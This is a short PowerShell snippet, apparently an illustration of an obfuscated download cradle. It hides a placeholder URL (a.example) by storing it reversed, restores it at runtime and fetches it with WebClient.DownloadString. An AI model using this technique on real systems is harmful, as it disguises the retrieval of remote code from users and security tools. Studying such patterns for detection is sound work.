$r = 'txt.x/p/elpmaxe.a//:ptth'.ToCharArray(); [array]::Reverse($r)
$wc = New-Object System.Net.WebClient
$wc.DownloadString(-join $r)
